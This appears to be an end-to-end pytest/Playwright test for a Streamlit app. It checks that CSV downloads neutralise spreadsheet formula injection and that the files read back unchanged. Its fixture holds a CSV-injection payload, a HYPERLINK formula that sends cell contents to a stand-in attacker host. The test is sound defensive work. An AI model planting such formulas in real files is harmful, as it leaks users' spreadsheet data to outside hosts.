"""CSV downloads in Chromium: a language named like a formula comes out as text a spreadsheet
will not run, the file reads back as it was, and no table offers Streamlit's own CSV export (it
writes cells as they are)."""

from __future__ import annotations

import csv

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.e2e

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # the language name


def test_the_texts_csv_of_a_formula_named_language_is_safe_and_reads_back(app_page, tmp_path):
    app = app_page
    app.goto("languages")
    mine = tmp_path / "mine.csv"
    with mine.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["language", "text"], [LINK, "-1+1 is a text"]])
    app.main.get_by_text("Texts: edit any language").click()
    uploader = app.main.get_by_test_id("stFileUploaderDropzoneInput").first
    app.run(lambda: uploader.set_input_files(str(mine)))

    # Streamlit's own table toolbar (search, full screen) has no CSV export: ours is the only one
    editor = app.main.get_by_test_id("stDataFrame").filter(has_text="Spaces between words").first
    editor.hover()
    toolbar = editor.locator("xpath=..").get_by_test_id("stElementToolbar")
    expect(toolbar.get_by_role("button", name="Search")).to_be_visible()
    expect(toolbar.get_by_role("button", name="Download as CSV")).to_have_count(0)

    with app.page.expect_download() as dl:
        app.main.get_by_role("button", name="Download the texts (CSV, the upload format)").click()
    saved = tmp_path / "translations.csv"
    dl.value.save_as(saved)
    with saved.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    row = next(r for r in rows if "HYPERLINK" in r["language"])
    assert row["language"] == "'" + LINK and row["text"] == "'-1+1 is a text"
    assert not [c for r in rows for c in r.values() if c.startswith(("=", "+", "-", "@", "\t", "\r"))]

    # the app's own file reads back as written: the language keeps its name, no quote added
    app.run(lambda: uploader.set_input_files(str(saved)))
    expect(app.main.get_by_test_id("stAlertContentError")).to_have_count(0)
    assert not app.exceptions()
    with app.page.expect_download() as dl:
        app.main.get_by_role("button", name="Download the texts (CSV, the upload format)").click()
    assert dl.value.path().read_text(encoding="utf-8") == saved.read_text(encoding="utf-8")
